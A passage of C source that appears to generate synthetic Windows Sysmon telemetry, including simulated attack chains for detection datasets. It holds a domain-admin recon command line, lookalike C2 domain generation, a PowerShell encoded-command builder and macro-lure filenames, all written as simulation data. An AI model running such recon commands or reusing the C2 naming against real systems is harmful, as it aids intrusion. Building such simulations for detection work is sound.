	if (p->kind != K_SYSTEM && rng_chance(&e->r, 0.03))
		put_guid_tail(p->alt + 19, e->guid_style, e->guid_ctr + 0x8000u +
		              (uint32_t)rng_range(&e->r, 1, 0x7000));
}

static int pid_live(const struct ep *e, uint32_t pid)
{
	for (size_t i = 0; i < e->nlive; i++)
		if (e->live[i]->pid == pid && !e->live[i]->end_done)
			return 1;
	return 0;
}

static struct proc *proc_new(struct ep *e, int kind, int64_t start, int user)
{
	struct proc *p = calloc(1, sizeof *p);
	if (p == NULL)
		die("out of memory");
	const struct pkind *k = &kinds[kind];
	p->kind = kind;
	p->file = &exes[k->file];
	p->image = exe_path(e, k->file);
	p->user = (unsigned char)(user >= 0 ? user : k->user);
	p->integrity = k->integrity;
	p->session = p->user == U_USER;
	p->start = start;
	p->end = NEVER;
	p->act = k->act * (0.5 + rng_unit(&e->r));
	if (kind == K_SYSTEM) {
		p->pid = 4;
	} else {
		do
			p->pid = (uint32_t)rng_range(&e->r, 26, 9000) * 4;
		while (pid_live(e, p->pid));
	}
	set_guids(e, p);
	if (e->nlive == e->caplive) {
		e->caplive = e->caplive != 0 ? 2 * e->caplive : 128;
		e->live = xrealloc(e->live, e->caplive * sizeof *e->live);
	}
	e->live[e->nlive++] = p;
	e->nkind[kind]++;
	return p;
}

static void proc_free(struct proc *p)
{
	free(p->own_image);
	free(p->cmdline);
	free(p);
}

/* A live process of `kind` running at ts (not a scripted one), or NULL. */
static struct proc *find_live(struct ep *e, int kind, int64_t ts)
{
	for (size_t i = e->nlive; i-- > 0;) {
		struct proc *p = e->live[i];
		if (p->kind == kind && !p->scripted && p->start <= ts && ts < p->end)
			return p;
	}
	return NULL;
}

static void set_end(struct proc *p, int64_t at)
{
	if (at <= p->start)
		at = p->start + 1;
	if (at < p->end)
		p->end = at;
}

static int64_t life_of(struct ep *e, int kind)
{
	struct rng *r = &e->r;
	switch (kinds[kind].life) {
	case L_APP: return rng_logu(r, 2 * MIN, 4 * HOUR);
	case L_TAB: return rng_logu(r, 30 * SEC, 50 * MIN);
	case L_TASK: return rng_logu(r, 1 * SEC, 4 * MIN);
	case L_CMD: return rng_logu(r, 40, 6 * SEC);
	case L_BRIEF: return rng_range(r, 2 * SEC, 25 * SEC);
	case L_SCRIPT: return 1 * MIN;
	default: return NEVER;
	}
}

static void file_time_extra(struct sb *x, int64_t ts)
{
	char tmp[40];
	ev_format_time(ts * 1000, tmp, sizeof tmp);
	tmp[10] = ' ';
	tmp[23] = '\0';        /* "YYYY-MM-DD HH:MM:SS.mmm", Sysmon's form */
	x->len = 0;
	sb_puts(x, "{\"CreationUtcTime\":\"");
	sb_puts(x, tmp);
	sb_puts(x, "\"}");
	sb_putc(x, '\0');
}

/* One image load by p at ts of file f. */
static int64_t load_image(struct ep *e, struct proc *p, int64_t ts, const struct file *f)
{
	struct sb *x = &G.x;
	x->len = 0;
	sb_puts(x, "{\"SignatureStatus\":\"");
	sb_puts(x, f->signer != NULL ? "Valid" : "Unavailable");
	sb_puts(x, "\"}");
	sb_putc(x, '\0');
	struct gev g = {.kind = EV_IMAGE_LOAD, .eid = 7, .p = p, .target = f->path,
	                .f = f, .hashes = 1, .sig = 1, .ver = 1, .extra = x->p};
	out(e, ts, &g);
	return ts;
}

/* The image loads right after a start: the image itself, the base DLLs in
 * order, then a random pick from the kind's groups. */
static int64_t load_burst(struct ep *e, struct proc *p, int64_t ts, unsigned groups, int n)
{
	unsigned char used[NELEM(dlls)] = {0};
	ts = load_image(e, p, ts + rng_range(&e->r, 1, 15), p->file);
	int done = 1;
	for (size_t i = 0; i < NELEM(dlls) && done < n; i++) {
		if (dlls[i].group != G_BASE)
			continue;
		used[i] = 1;
		ts = load_image(e, p, ts + rng_range(&e->r, 0, 6), &dlls[i].f);
		done++;
	}
	for (int tries = 0; done < n && tries < 4 * n; tries++) {
		size_t i = rng_below(&e->r, NELEM(dlls));
		if (used[i] || (dlls[i].group & groups) == 0)
			continue;
		used[i] = 1;
		ts = load_image(e, p, ts + rng_range(&e->r, 0, 25), &dlls[i].f);
		done++;
	}
	return ts;
}

struct spawn_opt {
	const char *cmd;            /* literal command line (no expansion) */
	int user;                   /* -1: the kind's */
	int64_t life;               /* 0: the kind's */
	struct file *file;          /* a dropped file instead of the kind's */
	int scripted;               /* part of a chain: no churn, no activity */
	int nload;                  /* 0: the kind's */
	unsigned dlls;              /* 0: the kind's */
};

static struct proc *spawn(struct ep *e, int kind, struct proc *parent, int64_t ts,
                          const struct spawn_opt *o);

/* Start a process of `kind` under parent at ts: its start event, image
 * loads, a console host for console programs started outside a console,
 * and the usual companions (browser helper processes). */
static struct proc *spawn(struct ep *e, int kind, struct proc *parent, int64_t ts,
                          const struct spawn_opt *o)
{
	static const struct spawn_opt none = {.user = -1};
	if (o == NULL)
		o = &none;
	const struct pkind *k = &kinds[kind];
	struct proc *p = proc_new(e, kind, ts, o->user);
	p->scripted = (unsigned char)o->scripted;
	if (o->scripted)
		p->act = 0;
	if (o->file != NULL) {
		p->file = o->file;
		if (strstr(o->file->path, "%U") != NULL)
			p->image = p->own_image = expand_dup(o->file->path, e);
		else
			p->image = o->file->path;
	}
	p->cmdline = o->cmd != NULL ? xstrdup(o->cmd) : expand_dup(k->cmd, e);
	int64_t life = o->life != 0 ? o->life : life_of(e, kind);
	if (life != NEVER)
		set_end(p, ts + life);

	struct sb *x = &G.x;
	x->len = 0;
	sb_puts(x, "{\"CurrentDirectory\":");
	char *cwd = expand_dup(k->cwd != NULL ? k->cwd : W32, e);
	sb_json(x, cwd);
	free(cwd);
	sb_puts(x, ",\"LogonId\":\"");
	sb_puts(x, logon_id(e, p->user));
	sb_puts(x, "\",\"TerminalSessionId\":\"");
	sb_puts(x, p->user == U_USER || p->user == U_DWM ? "1" : "0");
	sb_putc(x, '"');
	if (p->file->version != NULL) {
		sb_puts(x, ",\"FileVersion\":");
		sb_json(x, p->file->version);
	}
	sb_puts(x, "}");
	sb_putc(x, '\0');
	struct gev g = {.kind = EV_PROCESS_START, .eid = 1, .p = p, .parent = parent,
	                .f = p->file, .hashes = 1, .ver = 1, .extra = x->p};
	out(e, ts, &g);

	int mean = o->nload != 0 ? o->nload : k->nload;
	int n = (int)(mean * (0.7 + 0.6 * rng_unit(&e->r)));
	if (n < 1)
		n = 1;
	int64_t t = load_burst(e, p, ts, o->dlls != 0 ? o->dlls : k->dlls, n);

	if (k->console && (parent == NULL || !kinds[parent->kind].console)) {
		struct spawn_opt co = {.user = p->user, .scripted = o->scripted,
		                       .life = p->end == NEVER ? NEVER : p->end - ts + rng_range(&e->r, 5, 60)};
		spawn(e, K_CONHOST, p, ts + rng_range(&e->r, 3, 30), &co);
	}
	if (kind == K_CHROME) {
		struct spawn_opt co = {.user = -1, .life = NEVER};
		spawn(e, K_CHROME_GPU, p, t + rng_range(&e->r, 50, 300), &co);
		spawn(e, K_CHROME_NET, p, t + rng_range(&e->r, 80, 400), &co);
		for (int i = 0; i < 2; i++)
			spawn(e, K_CHROME_TAB, p, t + rng_range(&e->r, 300, 3000), NULL);
	} else if (kind == K_TEAMS) {
		for (int i = 0; i < 2; i++)
			spawn(e, K_TEAMS_R, p, t + rng_range(&e->r, 500, 4000), NULL);
	}
	/* Prefetch: SysMain writes the .pf of a program it has not seen. */
	if (!o->scripted && rng_chance(&e->r, 0.06) && p->file->orig != NULL) {
		struct proc *sm = find_live(e, K_SVC_SYSMAIN, ts);
		if (sm != NULL) {
			struct sb b = {0};
			sb_puts(&b, "C:\\Windows\\Prefetch\\");
			const char *base = strrchr(p->image, '\\');
			for (const char *c = base != NULL ? base + 1 : p->image; *c != '\0'; c++)
				sb_putc(&b, *c >= 'a' && *c <= 'z' ? (char)(*c - 32) : *c);
			sb_putc(&b, '-');
			put_hex(&b, fnv1a(p->image), 8, 1);
			sb_puts(&b, ".pf");
			sb_putc(&b, '\0');
			int64_t at = ts + rng_range(&e->r, 8 * SEC, 12 * SEC);
			file_time_extra(x, at);
			struct gev fg = {.kind = EV_FILE_CREATE, .eid = 11, .p = sm,
			                 .target = b.p, .extra = x->p};
			if (at < sm->end)
				out(e, at, &fg);
			free(b.p);
		}
	}
	return p;
}

/* Emit the exits of processes that ended before `upto`. */
static void end_scan(struct ep *e, int64_t upto)
{
	for (size_t i = 0; i < e->nlive; i++) {
		struct proc *p = e->live[i];
		if (p->end_done || p->end >= upto)
			continue;
		p->end_done = 1;
		e->nkind[p->kind]--;
		if (p->kind == K_SYSTEM)
			continue;
		struct gev g = {.kind = EV_PROCESS_END, .eid = 5, .p = p};
		out(e, p->end, &g);
	}
}

static void purge(struct ep *e)
{
	size_t w = 0;
	for (size_t i = 0; i < e->nlive; i++) {
		if (e->live[i]->end_done)
			proc_free(e->live[i]);
		else
			e->live[w++] = e->live[i];
	}
	e->nlive = w;
}

/* ---- background activity ----------------------------------------------- */

static void ip_of(const char *host, char out[16])
{
	static const int first[] = {13, 20, 23, 40, 52, 104, 142, 151, 157, 172, 184, 199, 202, 203, 210};
	uint64_t h = fnv1a(host);
	size_t n = strlen(host);
	if (n > 16 && strcmp(host + n - 16, ".corp.example.jp") == 0)
		snprintf(out, 16, "10.0.%d.%d", (int)(h % 4), (int)(h >> 8) % 250 + 2);
	else
		snprintf(out, 16, "%d.%d.%d.%d", first[h % NELEM(first)], (int)(h >> 8 & 255),
		         (int)(h >> 16 & 255), (int)(h >> 24) % 253 + 1);
}

/* A DNS query (unless cached) and a connection from p to host. */
static void net(struct ep *e, struct proc *p, int64_t ts, const char *host,
                const char *ip_given, int port)
{
	char ip[16];
	if (ip_given != NULL)
		snprintf(ip, sizeof ip, "%s", ip_given);
	else
		ip_of(host, ip);
	struct sb *x = &G.x;
	size_t n = strlen(host);
	int internal = n > 16 && strcmp(host + n - 16, ".corp.example.jp") == 0;
	if (port == 0) {
		static const int iports[] = {445, 389, 88, 135, 445, 443};
		port = internal ? iports[rng_below(&e->r, NELEM(iports))] : rng_chance(&e->r, 0.9) ? 443 : 80;
	}
	if (ip_given == NULL && rng_chance(&e->r, 0.7)) {
		struct sb d = {0};
		sb_puts(&d, "::ffff:");
		sb_puts(&d, ip);
		sb_putc(&d, ';');
		sb_putc(&d, '\0');
		x->len = 0;
		sb_puts(x, "{\"QueryStatus\":\"0\"}");
		sb_putc(x, '\0');
		struct gev g = {.kind = EV_DNS_QUERY, .eid = 22, .p = p, .target = host,
		                .details = d.p, .extra = x->p};
		out(e, ts, &g);
		free(d.p);
		ts += rng_range(&e->r, 2, 80);
	}
	static const char *const pnames[] = {"https", "http", "microsoft-ds", "ldap", "kerberos", "epmap"};
	const char *pn = port == 443 ? pnames[0] : port == 80 ? pnames[1] : port == 445 ? pnames[2]
	               : port == 389 ? pnames[3] : port == 88 ? pnames[4] : port == 135 ? pnames[5] : NULL;
	x->len = 0;
	sb_puts(x, "{\"DestinationHostname\":");
	sb_json(x, host);
	if (pn != NULL) {
		sb_puts(x, ",\"DestinationPortName\":");
		sb_json(x, pn);
	}
	sb_putc(x, '}');
	sb_putc(x, '\0');
	struct gev g = {.kind = EV_NET_CONNECT, .eid = 3, .p = p, .proto = "tcp",
	                .lip = e->ip, .lport = (int)rng_range(&e->r, 49152, 65535),
	                .rip = ip, .rport = port, .extra = x->p};
	if (ts < p->end)
		out(e, ts, &g);
}

static void reg_event(struct ep *e, struct proc *p, int64_t ts, const char *tmpl, int create)
{
	struct sb key = {0}, val = {0};
	char type = tmpl[0];
	const char *k = tmpl + 2, *bar = strchr(k, '|');
	char *kt = bar != NULL ? strndup(k, (size_t)(bar - k)) : xstrdup(k);
	expand(&key, kt, e);
	sb_putc(&key, '\0');
	free(kt);
	struct rng *r = &e->r;
	if (type == 'D')
		sb_printf(&val, "DWORD (0x%08x)", (unsigned)rng_below(r, rng_chance(r, 0.7) ? 4 : 100000));
	else if (type == 'Q')
		sb_printf(&val, "QWORD (0x01da%04x-0x%08x)", (unsigned)rng_below(r, 0x10000),
		          (unsigned)rng_next(r));
	else if (type == 'S' && bar != NULL)
		expand(&val, bar + 1, e);
	else
		sb_puts(&val, "Binary Data");
	sb_putc(&val, '\0');
	struct sb *x = &G.x;
	x->len = 0;
	sb_puts(x, create ? "{\"EventType\":\"CreateKey\"}" : "{\"EventType\":\"SetValue\"}");
	sb_putc(x, '\0');
	struct gev g = {.kind = create ? EV_REGISTRY_CREATE : EV_REGISTRY_SET,
	                .eid = create ? 12 : 13, .p = p, .target = key.p,
	                .details = create ? NULL : val.p, .extra = x->p};
	out(e, ts, &g);
	free(key.p);
	free(val.p);
}

static void file_event(struct ep *e, struct proc *p, int64_t ts, const char *path, int del)
{
	struct sb *x = &G.x;
	if (del) {
		x->len = 0;
		sb_puts(x, "{\"IsExecutable\":\"false\"}");
		sb_putc(x, '\0');
	} else {
		file_time_extra(x, ts);
	}
	struct gev g = {.kind = del ? EV_FILE_DELETE : EV_FILE_CREATE, .eid = del ? 26 : 11,
	                .p = p, .target = path, .extra = x->p};
	out(e, ts, &g);
}

static void activity(struct ep *e, struct proc *p, int64_t ts)
{
	const struct famtab *ft = &fams[kinds[p->kind].fam];
	struct rng *r = &e->r;
	int sum = 0;
	for (int i = 0; i < 7; i++)
		sum += ft->mix[i];
	int pick = (int)rng_below(r, (uint64_t)sum), which = 0;
	while (pick >= ft->mix[which])
		pick -= ft->mix[which++];
	switch (which) {
	case 0:
	case 1:
		reg_event(e, p, ts, ft->reg[rng_below(r, ft->nreg)], which == 1);
		break;
	case 2:
	case 3: {
		char *path = expand_dup(ft->file[rng_below(r, ft->nfile)], e);
		file_event(e, p, ts, path, which == 3);
		free(path);
		break;
	}
	case 4: {
		unsigned groups = kinds[p->kind].dlls & ~(unsigned)G_BASE;
		for (int tries = 0; tries < 20; tries++) {
			size_t i = rng_below(r, NELEM(dlls));
			if ((dlls[i].group & groups) != 0) {
				load_image(e, p, ts, &dlls[i].f);
				return;
			}
		}
		load_image(e, p, ts, &dlls[rng_below(r, 9)].f);
		break;
	}
	case 5:
		if (ft->ndns > 0)
			net(e, p, ts, ft->dns[rng_below(r, ft->ndns)], NULL, 0);
		break;
	default: {
		char *pipe = expand_dup(kinds[p->kind].fam == FAM_BROWSER ? "\\mojo.%1.%1.%5"
		                        : "\\Winsock2\\CatalogChangeListener-%4-0", e);
		struct sb *x = &G.x;
		x->len = 0;
		sb_puts(x, "{\"EventType\":\"CreatePipe\"}");
		sb_putc(x, '\0');
		struct gev g = {.kind = EV_PIPE_CREATE, .eid = 17, .p = p, .target = pipe, .extra = x->p};
		out(e, ts, &g);
		free(pipe);
		break;
	}
	}
}

/* ---- the day: boot, logon, logoff, reboot -------------------------------- */

static struct proc *boot(struct ep *e, int64_t tb)
{
	struct rng *r = &e->r;
	e->guid_ctr = (uint32_t)rng_below(r, 0x100000);
	struct proc *sys = proc_new(e, K_SYSTEM, tb, U_SYSTEM);
	sys->cmdline = NULL;
	int64_t t = tb + rng_range(r, 1500, 3000);
	struct proc *smss = spawn(e, K_SMSS, sys, t, NULL);
	struct proc *c1 = spawn(e, K_SMSS_CHILD, smss, t += 600, NULL);
	spawn(e, K_CSRSS, c1, t += 150, NULL);
	struct proc *wininit = spawn(e, K_WININIT, c1, t += 200, NULL);
	struct proc *c2 = spawn(e, K_SMSS_CHILD, smss, t += 300, NULL);
	spawn(e, K_CSRSS, c2, t += 150, NULL);
	struct proc *winlogon = spawn(e, K_WINLOGON, c2, t += 200, NULL);
	struct proc *services = spawn(e, K_SERVICES, wininit, t += 400, NULL);
	spawn(e, K_LSASS, wininit, t += 30, NULL);
	spawn(e, K_FONTDRV, wininit, t += 40, NULL);
	spawn(e, K_FONTDRV_U, winlogon, t += 300, NULL);
	spawn(e, K_DWM, winlogon, t += 500, NULL);
	static const int roles[] = {K_SVC_DCOM, K_SVC_SCHED, K_SVC_SYSMAIN, K_SVC_WU,
	                            K_SVC_INPUT, K_SVC_AUDIO, K_SVC_APPINFO};
	t += 800;
	for (size_t i = 0; i < NELEM(roles); i++)
		spawn(e, roles[i], services, t += rng_range(r, 30, 600), NULL);
	struct sb cmd = {0};
	struct proc *anysvc = NULL;
	for (size_t i = 0; i < NELEM(boot_svcs); i++) {
		cmd.len = 0;
		sb_puts(&cmd, SVCH);
		sb_puts(&cmd, boot_svcs[i].args);
		sb_putc(&cmd, '\0');
		struct spawn_opt o = {.cmd = cmd.p, .user = boot_svcs[i].user};
		anysvc = spawn(e, K_SVC, services, t += rng_range(r, 20, 900), &o);
	}
	free(cmd.p);
	static const int more[] = {K_SPOOLSV, K_MSMPENG, K_NISSRV, K_SECHSVC, K_SEARCHIDX, K_C2R};
	for (size_t i = 0; i < NELEM(more); i++)
		spawn(e, more[i], services, t += rng_range(r, 200, 4000), NULL);
	if (e->server) {
		spawn(e, K_SQLSERVR, services, t += rng_range(r, 1000, 5000), NULL);
		spawn(e, K_W3WP, anysvc, t += rng_range(r, 5000, 60000), NULL);
	}
	return sys;
}

static void run_persist(struct ep *e, struct proc *parent, int64_t ts);

static void logon(struct ep *e, int64_t tl)
{
	struct rng *r = &e->r;
	struct proc *winlogon = find_live(e, K_WINLOGON, tl);
	struct proc *services = find_live(e, K_SERVICES, tl);
	if (winlogon == NULL || services == NULL || e->logged_on)
		return;
	snprintf(e->logon_id, sizeof e->logon_id, "0x%x", (unsigned)rng_range(r, 0x10000, 0xfffff));
	e->logged_on = 1;
	struct proc *ui = spawn(e, K_USERINIT, winlogon, tl, NULL);
	int64_t t = tl + rng_range(r, 1500, 4000);
	struct proc *ex = spawn(e, K_EXPLORER, ui, t, NULL);
	spawn(e, K_SVC_USER, services, tl + rng_range(r, 300, 1500), NULL);
	struct proc *svc = find_live(e, K_SVC, tl), *p;
	if (svc != NULL)
		spawn(e, K_SIHOST, svc, tl + rng_range(r, 200, 900), NULL);
	if ((p = find_live(e, K_SVC_INPUT, tl)) != NULL)
		spawn(e, K_CTFMON, p, tl + rng_range(r, 500, 2000), NULL);
	if ((p = find_live(e, K_SVC_DCOM, tl)) != NULL)
		spawn(e, K_RUNTIMEBROKER, p, t + rng_range(r, 500, 3000), NULL);
	if ((p = find_live(e, K_SVC_SCHED, tl)) != NULL)
		spawn(e, K_TASKHOSTW, p, tl + rng_range(r, 400, 2000), NULL);
	spawn(e, K_SECHTRAY, ex, t + rng_range(r, 10 * SEC, 20 * SEC), NULL);
	spawn(e, K_ONEDRIVE, ex, t + rng_range(r, 15 * SEC, 30 * SEC), NULL);
	if (rng_chance(r, 0.8))
		spawn(e, K_TEAMS, ex, t + rng_range(r, 20 * SEC, 40 * SEC), NULL);
	if (rng_chance(r, 0.95))
		spawn(e, K_OUTLOOK, ex, t + rng_range(r, 1 * MIN, 15 * MIN), NULL);
	if (rng_chance(r, 0.9))
		spawn(e, K_CHROME, ex, t + rng_range(r, 2 * MIN, 40 * MIN), NULL);
	if (e->persist != NULL)
		run_persist(e, ex, t + rng_range(r, 30 * SEC, 60 * SEC));
}

static void logoff(struct ep *e, int64_t to)
{
	for (size_t i = 0; i < e->nlive; i++) {
		struct proc *p = e->live[i];
		if (p->session && !p->end_done && p->end > to)
			set_end(p, to - rng_range(&e->r, 0, 15 * SEC));
	}
	e->logged_on = 0;
}

static void reboot(struct ep *e, int64_t tr)
{
	for (size_t i = 0; i < e->nlive; i++) {
		struct proc *p = e->live[i];
		if (!p->end_done && p->end > tr)
			set_end(p, tr - rng_range(&e->r, 0, 20 * SEC));
	}
	e->logged_on = 0;
	boot(e, tr + rng_range(&e->r, 40 * SEC, 2 * MIN));
}

/* ---- attack chains ------------------------------------------------------- */

enum { C_MACRO, C_HTA, C_SCRIPT, C_LATERAL, C_PUA, C_TASK, C_COUNT };
static const char *const chain_names[C_COUNT] = {
	"macro", "hta", "script", "lateral", "pua", "logon-task",
};

struct chain {
	int type, ep, target, tries;
};
static struct chain *chains;
static int nchains;
static struct file **dropped;
static size_t ndropped, capdropped;
static int chain_counts[C_COUNT];

static struct file *new_file(struct ep *e, const char *path)
{
	struct file *f = calloc(1, sizeof *f);
	if (f == NULL)
		die("out of memory");
	f->path = xstrdup(path);
	uint64_t st = rng_next(&e->r);
	hexfill(f->sha256, 64, &st);
	hexfill(f->sha1, 40, &st);
	hexfill(f->md5, 32, &st);
	hexfill(f->imphash, 32, &st);
	if (ndropped == capdropped) {
		capdropped = capdropped != 0 ? 2 * capdropped : 64;
		dropped = xrealloc(dropped, capdropped * sizeof *dropped);
	}
	dropped[ndropped++] = f;
	return f;
}

static void add_alert(struct ep *e, int64_t at, const char *path, const char *sha256,
                      const char *detection, const char *action)
{
	if (at < G.win_start || at >= G.win_end)
		return;
	if (G.nalerts == G.capalerts) {
		G.capalerts = G.capalerts != 0 ? 2 * G.capalerts : 64;
		G.alerts = xrealloc(G.alerts, G.capalerts * sizeof *G.alerts);
	}
	struct alertrec *a = &G.alerts[G.nalerts++];
	memset(a, 0, sizeof *a);
	a->at = at;
	a->recv = at + rng_range(&e->r, 2 * SEC, 90 * SEC);
	a->ep = e->idx;
	a->path = xstrdup(path);
	if (rng_chance(&e->r, 0.15))       /* consoles report paths in any case */
		for (char *c = a->path; *c != '\0'; c++)
			if (*c >= 'A' && *c <= 'Z')
				*c = (char)(*c + 32);
	a->detection = xstrdup(detection);
	snprintf(a->sha256, sizeof a->sha256, "%s", sha256);
	a->action = action;
}

static void reg_lit(struct ep *e, struct proc *p, int64_t ts, const char *key,
                    const char *value)
{
	struct sb *x = &G.x;
	x->len = 0;
	sb_puts(x, value != NULL ? "{\"EventType\":\"SetValue\"}" : "{\"EventType\":\"CreateKey\"}");
	sb_putc(x, '\0');
	struct gev g = {.kind = value != NULL ? EV_REGISTRY_SET : EV_REGISTRY_CREATE,
	                .eid = value != NULL ? 13 : 12, .p = p, .target = key,
	                .details = value, .extra = x->p};
	if (ts < p->end)
		out(e, ts, &g);
}

static void file_lit(struct ep *e, struct proc *p, int64_t ts, const char *path)
{
	if (ts < p->end)
		file_event(e, p, ts, path, 0);
}

/* A download's Zone.Identifier stream (Sysmon 15). */
static void zone_id(struct ep *e, struct proc *p, int64_t ts, const char *path,
                    const char *url, const char *referrer)
{
	struct sb t = {0}, d = {0};
	sb_printf(&t, "%s:Zone.Identifier", path);
	sb_putc(&t, '\0');
	sb_printf(&d, "[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=%s\r\nHostUrl=%s\r\n", referrer, url);
	sb_putc(&d, '\0');
	file_time_extra(&G.x, ts);
	struct gev g = {.kind = EV_FILE_STREAM, .eid = 15, .p = p, .target = t.p,
	                .details = d.p, .extra = G.x.p};
	out(e, ts, &g);
	free(t.p);
	free(d.p);
}

/* Defender quarantines a file: MsMpEng deletes it (Sysmon 23, archived). */
static void quarantine(struct ep *e, int64_t ts, const struct file *f)
{
	struct proc *mp = find_live(e, K_MSMPENG, ts);
	if (mp == NULL)
		return;
	struct sb *x = &G.x;
	x->len = 0;
	sb_puts(x, "{\"IsExecutable\":\"true\",\"Archived\":\"true\"}");
	sb_putc(x, '\0');
	struct gev g = {.kind = EV_FILE_DELETE, .eid = 23, .p = mp, .target = f->path,
	                .f = f, .hashes = 1, .extra = x->p};
	out(e, ts, &g);
}

static void base64(struct sb *b, const unsigned char *s, size_t n)
{
	static const char tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	for (size_t i = 0; i < n; i += 3) {
		uint32_t v = (uint32_t)s[i] << 16;
		if (i + 1 < n)
			v |= (uint32_t)s[i + 1] << 8;
		if (i + 2 < n)
			v |= s[i + 2];
		sb_putc(b, tab[v >> 18 & 63]);
		sb_putc(b, tab[v >> 12 & 63]);
		sb_putc(b, i + 1 < n ? tab[v >> 6 & 63] : '=');
		sb_putc(b, i + 2 < n ? tab[v & 63] : '=');
	}
}

/* PowerShell -EncodedCommand: base64 of the UTF-16LE script. */
static void encoded_command(struct sb *b, const char *script)
{
	size_t n = strlen(script);
	unsigned char *u = xmalloc(2 * n);
	for (size_t i = 0; i < n; i++) {
		u[2 * i] = (unsigned char)script[i];
		u[2 * i + 1] = 0;
	}
	base64(b, u, 2 * n);
	free(u);
}

struct c2 {
	char host[64], ip[16];
};

static void make_c2(struct ep *e, struct c2 *c)
{
	static const char *const w[] = {"msoffice-update", "cdn-static", "login-verify", "docs-share",
	                                "onedrive-sync", "secure-mail", "cloud-files", "api-telemetry"};
	static const char *const tld[] = {".com", ".net", ".top", ".xyz", ".info", ".online"};
	static const int first[] = {185, 45, 91, 193, 194, 5, 46, 77, 179, 141};
	struct rng *r = &e->r;
	snprintf(c->host, sizeof c->host, "%s-%04x%s", PICK(r, w), (unsigned)rng_below(r, 0x10000), PICK(r, tld));
	snprintf(c->ip, sizeof c->ip, "%d.%d.%d.%d", PICK(r, first), (int)rng_range(r, 1, 254),
	         (int)rng_range(r, 1, 254), (int)rng_range(r, 1, 254));
}

/* net() with a known address: DNS answer first when asked to. */
static void net_to(struct ep *e, struct proc *p, int64_t ts, const struct c2 *c, int port, int dns)
{
	if (ts >= p->end)
		return;
	if (dns) {
		char det[40];
		snprintf(det, sizeof det, "::ffff:%s;", c->ip);
		G.x.len = 0;
		sb_puts(&G.x, "{\"QueryStatus\":\"0\"}");
		sb_putc(&G.x, '\0');
		struct gev g = {.kind = EV_DNS_QUERY, .eid = 22, .p = p, .target = c->host,
		                .details = det, .extra = G.x.p};
		out(e, ts, &g);
		ts += rng_range(&e->r, 5, 60);
	}
	net(e, p, ts, c->host, c->ip, port);
}

static struct proc *spawn_file(struct ep *e, int kind, struct proc *parent, int64_t ts,
                               struct file *f, const char *cmd, int user, int64_t life,
                               unsigned groups)
{
	struct spawn_opt o = {.cmd = cmd, .user = user, .life = life, .file = f,
	                      .scripted = 1, .dlls = groups};
	return spawn(e, kind, parent, ts, &o);
}

static struct proc *spawn_cmd(struct ep *e, int kind, struct proc *parent, int64_t ts,
                              const char *cmd, int64_t life)
{
	struct spawn_opt o = {.cmd = cmd, .user = -1, .life = life, .scripted = 1};
	return spawn(e, kind, parent, ts, &o);
}

static const char *const mal_detections[] = {
	"Trojan:Win32/Emotet.RPJ!MTB", "Trojan:Win32/Qakbot.PAX!MTB",
	"Backdoor:Win64/IcedId.MK!MTB", "Trojan:Win32/AgentTesla.RPZ!MTB",
	"Trojan:Win32/Wacatac.B!ml", "Trojan:Win32/Formbook.RA!MTB",
	"Backdoor:Win32/Remcos.GA!MTB",
};

/* Hands-on recon from p: cmd /c whoami & ipconfig & net group ... */
static int64_t recon(struct ep *e, struct proc *p, int64_t t)
{
	struct rng *r = &e->r;
	if (t >= p->end)
		return t;
	struct proc *c = spawn_cmd(e, K_CMD, p, t, "C:\\Windows\\system32\\cmd.exe /c whoami /all & ipconfig /all & net group \"domain admins\" /domain", rng_range(r, 3 * SEC, 9 * SEC));
	spawn_file(e, K_TOOL, c, t + rng_range(r, 30, 90), &exes[F_WHOAMI], "whoami  /all", -1, rng_range(r, 80, 400), 0);
	struct spawn_opt io = {.cmd = "ipconfig  /all", .user = -1, .scripted = 1, .life = rng_range(r, 100, 600)};
	spawn(e, K_IPCONFIG, c, t + rng_range(r, 600, 1200), &io);
	struct proc *n = spawn_file(e, K_TOOL, c, t + rng_range(r, 1500, 2500), &exes[F_NET],
	                            "net  group \"domain admins\" /domain", -1, rng_range(r, 800, 3000), G_BASE | G_NET | G_LATERAL);
	spawn_file(e, K_TOOL, n, n->start + rng_range(r, 20, 60), &exes[F_NET1],
	           "C:\\Windows\\system32\\net1  group \"domain admins\" /domain", -1, n->end - n->start - 10, G_BASE | G_NET | G_LATERAL);
	net(e, n, n->start + 200, "dc01.corp.example.jp", NULL, 389);
	return t + 3 * SEC;
}

/* Mail attachment -> Word/Excel macro -> PowerShell download cradle ->
 * dropped exe started. Returns the dropped process, or NULL when nobody is
 * logged on. */
static struct proc *foothold(struct ep *e, int64_t *tp, int excel, struct c2 *c2)
{
	struct rng *r = &e->r;
	int64_t t = *tp;
	struct proc *ex = find_live(e, K_EXPLORER, t);
	if (ex == NULL)
		return NULL;
	struct proc *ol = find_live(e, K_OUTLOOK, t);
	if (ol == NULL)
		ol = spawn(e, K_OUTLOOK, ex, t - rng_range(r, 10 * SEC, 60 * SEC), NULL);
	static const char *const lures[] = {"請求書", "Invoice", "見積依頼", "支払通知", "Order_Confirmation", "履歴書"};
	char dir[16], att[320], cmd[512], path[256], script[768];
	snprintf(dir, sizeof dir, "%08X", (unsigned)rng_next(r));
	const char *lure = PICK(r, lures);
	int num = (int)rng_range(r, 1000, 9999);
	snprintf(att, sizeof att, "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\%s\\%s_%d.%s",
	         e->user, dir, lure, num, excel ? "xlsm" : "docm");
	file_lit(e, ol, t, att);
	t += rng_range(r, 20 * SEC, 90 * SEC);
	if (excel)
		snprintf(cmd, sizeof cmd, "\"" OFFICE "EXCEL.EXE\" \"%s\"", att);
	else
		snprintf(cmd, sizeof cmd, "\"" OFFICE "WINWORD.EXE\" /n \"%s\" /o \"\"", att);
	struct proc *doc = spawn_cmd(e, excel ? K_EXCEL : K_WINWORD, ol, t, cmd, rng_range(r, 5 * MIN, 40 * MIN));
	t += rng_range(r, 3 * SEC, 12 * SEC);
	char key[512];
	snprintf(key, sizeof key, "HKU\\%s\\Software\\Microsoft\\Office\\16.0\\%s\\Security\\Trusted Documents\\TrustRecords\\%%USERPROFILE%%/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/%s/%s_%d.%s",
	         e->sid, excel ? "Excel" : "Word", dir, lure, num, excel ? "xlsm" : "docm");
	reg_lit(e, doc, t, key, "Binary Data");
	make_c2(e, c2);
